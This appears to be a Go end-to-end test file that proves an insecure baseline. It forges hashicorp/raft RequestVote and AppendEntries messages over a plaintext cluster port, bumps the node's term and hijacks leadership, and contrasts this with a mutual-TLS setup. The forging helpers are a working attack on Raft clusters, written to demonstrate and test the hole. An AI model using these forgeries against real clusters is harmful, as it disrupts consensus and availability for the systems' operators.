package e2e

import (
	binenc "encoding/binary"
	"fmt"
	"net"
	"net/http"
	"strconv"
	"sync"
	"testing"
	"time"

	"github.com/hashicorp/go-hclog"
	"github.com/hashicorp/raft"
	"github.com/prometheus/common/expfmt"
	"github.com/prometheus/common/model"
)

// A forger of Raft messages, as issue #14's hostile neighbour wrote one: it dials a
// node's cluster port in plaintext, writes the connection header that routes it to
// one group, and speaks hashicorp/raft's wire protocol there. The protocol is raft's
// own NetworkTransport's (an RPC type byte, then msgpack), so the bytes are exactly a
// peer's; only the stream under it is ours. Against a cluster port with mutual TLS,
// every call fails: the node refuses the handshake before reading the header.

// forgeMuxHeader is the header raftgroup/mux.go's encodeMuxHeader writes on every
// cluster connection ("RK", version 1, the group id big-endian); restated here
// because e2e imports nothing of the project but openapi.
func forgeMuxHeader(group uint32) []byte {
	h := []byte{'R', 'K', 1, 0, 0, 0, 0}
	binenc.BigEndian.PutUint32(h[3:], group)
	return h
}

// forgeLayer is a raft.StreamLayer that only dials: plaintext TCP, then the header.
type forgeLayer struct {
	group uint32
	once  sync.Once
	done  chan struct{}
}

func (l *forgeLayer) Dial(address raft.ServerAddress, timeout time.Duration) (net.Conn, error) {
	c, err := net.DialTimeout("tcp", string(address), timeout)
	if err != nil {
		return nil, err
	}
	_ = c.SetWriteDeadline(time.Now().Add(timeout))
	if _, err := c.Write(forgeMuxHeader(l.group)); err != nil {
		c.Close()
		return nil, err
	}
	return c, nil
}

func (l *forgeLayer) Accept() (net.Conn, error) { <-l.done; return nil, net.ErrClosed }
func (l *forgeLayer) Close() error              { l.once.Do(func() { close(l.done) }); return nil }
func (l *forgeLayer) Addr() net.Addr            { return &net.TCPAddr{IP: net.IPv4(192, 0, 2, 66), Port: 7000} }

// forgeRPC runs call on a transport to group of the node at raftAddr, then closes it.
func forgeRPC(group uint32, call func(trans *raft.NetworkTransport) error) error {
	trans := raft.NewNetworkTransportWithConfig(&raft.NetworkTransportConfig{
		Stream:  &forgeLayer{group: group, done: make(chan struct{})},
		MaxPool: 1, Timeout: 5 * time.Second, Logger: hclog.NewNullLogger(),
	})
	defer trans.Close()
	return call(trans)
}

// forgeRequestVote asks the replica of group at raftAddr for its vote in term for
// candidate (the --id of a voter of that group), flagged as a leadership transfer
// (so a replica that knows a leader votes anyway: hashicorp/raft's requestVote) and
// with a log newer than anyone's. It reports whether the vote was granted; a granted
// or refused vote both mean the message reached hashicorp/raft. A replica that sees
// the higher term adopts it and its leader steps down.
func forgeRequestVote(raftAddr string, group uint32, term uint64, candidate string) (granted bool, err error) {
	var resp raft.RequestVoteResponse
	err = forgeRPC(group, func(trans *raft.NetworkTransport) error {
		return trans.RequestVote(raft.ServerID(candidate), raft.ServerAddress(raftAddr), &raft.RequestVoteRequest{
			RPCHeader: raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte(candidate), Addr: []byte(trans.LocalAddr())},
			Term:      term, LastLogIndex: 1 << 40, LastLogTerm: term, LeadershipTransfer: true,
		}, &resp)
	})
	return resp.Granted, err
}

// forgeAppendEntries sends the replica of group at raftAddr a heartbeat (an
// AppendEntries without entries) from leader (any name) in term. It reports whether
// the replica accepted it, which it does for any term at least its own: it then
// follows the forger as its leader and adopts the term.
func forgeAppendEntries(raftAddr string, group uint32, term uint64, leader string) (accepted bool, err error) {
	var resp raft.AppendEntriesResponse
	err = forgeRPC(group, func(trans *raft.NetworkTransport) error {
		return trans.AppendEntries(raft.ServerID(leader), raft.ServerAddress(raftAddr), &raft.AppendEntriesRequest{
			RPCHeader: raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte(leader), Addr: []byte(trans.LocalAddr())},
			Term:      term,
		}, &resp)
	})
	return resp.Success, err
}

// raftAddr is the node's --raft-addr.
func (p *proc) raftAddr() string { return p.arg("--raft-addr") }

// raftTerm is raft_term{group} in the node's /metrics.
func raftTerm(url string, group uint32) (uint64, error) {
	resp, err := http.Get(url + "/metrics")
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	parser := expfmt.NewTextParser(model.UTF8Validation)
	families, err := parser.TextToMetricFamilies(resp.Body)
	if err != nil {
		return 0, err
	}
	want := strconv.FormatUint(uint64(group), 10)
	for _, m := range families["raft_term"].GetMetric() {
		for _, l := range m.GetLabel() {
			if l.GetName() == "group" && l.GetValue() == want {
				return uint64(m.GetGauge().GetValue()), nil
			}
		}
	}
	return 0, fmt.Errorf("no raft_term{group=%q} in /metrics", want)
}

// TestForgedRaftVoteReachesAPlaintextCluster is the insecure baseline of issue #14,
// and the proof that the forger above is real: on a cluster whose cluster port is
// plaintext (today's default), a forged RequestVote with a term 1000 ahead is granted
// by a replica of group 1 and its raft_term jumps to it, and a forged heartbeat 1000
// terms further is accepted by another replica, whose raft_term follows. The secure
// counterpart (the same calls refused at the handshake, nothing changed) is the TLS
// cluster's test.
func TestForgedRaftVoteReachesAPlaintextCluster(t *testing.T) {
	c := startProcCluster(t, 3, "--groups", "2", "--partitions", "4")
	const group = 1
	voter, follower := c.procs[1], c.procs[2]
	before, err := raftTerm(voter.httpURL, group)
	if err != nil {
		t.Fatal(err)
	}

	term := before + 1000
	granted, err := forgeRequestVote(voter.raftAddr(), group, term, "node1")
	if err != nil || !granted {
		t.Fatalf("forged RequestVote at term %d to %s: granted %v, %v", term, voter.raftAddr(), granted, err)
	}
	eventually(t, 5*time.Second, "raft_term to reach the forged vote's term", func() error {
		if got, err := raftTerm(voter.httpURL, group); err != nil || got < term {
			return fmt.Errorf("raft_term{group=\"1\"} %d (%v), forged %d", got, err, term)
		}
		return nil
	})

	term += 1000
	accepted, err := forgeAppendEntries(follower.raftAddr(), group, term, "forger")
	if err != nil || !accepted {
		t.Fatalf("forged AppendEntries at term %d to %s: accepted %v, %v", term, follower.raftAddr(), accepted, err)
	}
	eventually(t, 5*time.Second, "raft_term to reach the forged heartbeat's term", func() error {
		if got, err := raftTerm(follower.httpURL, group); err != nil || got < term {
			return fmt.Errorf("raft_term{group=\"1\"} %d (%v), forged %d", got, err, term)
		}
		return nil
	})
}
